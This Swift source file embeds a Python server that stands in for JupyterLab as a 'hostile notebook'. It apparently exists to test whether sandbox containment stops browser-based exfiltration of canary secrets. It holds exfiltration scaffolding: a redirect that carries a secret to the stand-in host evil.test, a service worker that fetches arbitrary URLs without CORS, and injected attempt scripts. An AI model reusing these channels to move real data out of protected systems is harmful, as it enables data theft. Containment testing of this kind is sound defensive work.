import FoundationEssentials

/// The attacker's page in the notebook's place: a field for each attempt, which begins it when somebody clicks there.
enum HostilePage {
  /// What it is called once every field is there; which have begun follows, a bit for each, and what a field has it say.
  static let title = "hostile notebook"
  /// How many fields stand beside each other.
  static let columns = 8

  /// Answers for the page; `ATTEMPTS` is the file with the scripts.
  static let answers =
    "COLUMNS, TITLE = \(columns), \"\(title)\"\n" + #"""
      import json, os
      PAGE = "<!doctype html><meta charset=utf-8><title>hostile</title><p id=p>hostile page</p>"
      WORKER = "onmessage = e => fetch(e.data, {mode: 'no-cors'}).catch(() => 0);" \
               "onactivate = e => e.waitUntil(clients.claim())"
      STYLE = "<style>html, body { margin: 0; height: 100%; cursor: pointer }" \
              "iframe { border: 0; width: 100%; height: 100% }</style>"
      def attempts():
          return json.load(open(ATTEMPTS)) if os.path.exists(ATTEMPTS) else []
      def grid():
          count = len(attempts())
          rows = (count + COLUMNS - 1) // COLUMNS
          frames = "".join(f"<iframe src=/attempt/{number}></iframe>" for number in range(count))
          return f"<!doctype html><meta charset=utf-8>{STYLE}<body style='display: grid; grid-template: " \
                 f"repeat({rows}, minmax(0, 1fr)) / repeat({COLUMNS}, minmax(0, 1fr)); height: 100vh'>{frames}" \
                 f"<script>let begun = 0n, said = ''; function begin(n) {{ begun |= 1n << BigInt(n); name() }}" \
                 f"function say(text) {{ said = ' ' + text; name() }}" \
                 f"function name() {{ document.title = '{TITLE} ' + begun.toString(16) + said }}" \
                 f"onload = () => document.title = '{TITLE}'</script>"
      def field(number):
          return f"<!doctype html><meta charset=utf-8><title>field</title>{STYLE}<body><script>" \
                 "const make = tag => document.body.appendChild(document.createElement(tag));" \
                 f"addEventListener('click', async () => {{ parent.begin({number}); {attempts()[number]} }}, {{once: true}})</script>"
      def answer(target):
          path, _, secret = target.partition("?")
          plain = [("Content-Type", "text/html; charset=utf-8")]
          if path == "/attachment":
              return 200, [("Content-Type", "application/octet-stream"),
                           ("Content-Disposition", f'attachment; filename="{secret}.csv"')], secret
          if path == "/redirect":
              return 302, [("Location", f"http://evil.test/redirected?{secret}")], ""
          if path == "/worker.js":
              return 200, [("Content-Type", "text/javascript")], WORKER
          if path == "/lab":
              return 200, plain, grid()
          if path.startswith("/attempt/"):
              return 200, plain, field(int(path.removeprefix("/attempt/")))
          return 200, plain, PAGE
      def reply(target):
          status, fields, body = answer(target)
          body = body.encode()
          fields += [("Content-Length", str(len(body))), ("Connection", "close"), ("Cache-Control", "no-store")]
          lines = "".join(f"{name}: {value}\r\n" for name, value in fields)
          return f"HTTP/1.1 {status} Drill\r\n{lines}\r\n".encode() + body
      def request(client):
          head = b""
          while b"\r\n\r\n" not in head:
              data = client.recv(65536)
              if not data or len(head) > 1 << 20: return None
              head += data
          return head
      """#

  /// What a drill's twin starts in JupyterLab's place, on the notebook's socket.
  static let notebook =
    "#!/usr/bin/python3 -I\nATTEMPTS = \"/opt/cordon/notebook/attempts.json\"\n" + answers
      + #"""

      import socket, threading
      def serve(client):
          try:
              head = request(client)
              if head: client.sendall(reply(head.split(b" ", 2)[1].decode("latin-1")))
          except (OSError, ValueError, IndexError):
              pass
          client.close()
      PLACE = "/run/cordon/ingress/notebook.sock"
      if os.path.lexists(PLACE): os.unlink(PLACE)
      os.umask(0o177)
      door = socket.socket(socket.AF_UNIX)
      door.bind(PLACE)
      door.listen(128)
      while True:
          threading.Thread(target=serve, args=(door.accept()[0],), daemon=True).start()

      """#

  /// The fields' scripts as the page's server reads them.
  static func scripts(_ attempts: [(BrowserAttempt, Canary)]) throws(DrillError) -> String {
    let scripts = attempts.map { attempt, secret in
      guard case .script(let script) = attempt.act else { return "" }
      return script.replacing("CANARY", with: secret.text)
    }
    guard let data = try? JSONEncoder().encode(scripts) else { throw .world("cannot write the hostile page") }
    return String(decoding: data, as: UTF8.self)
  }
}
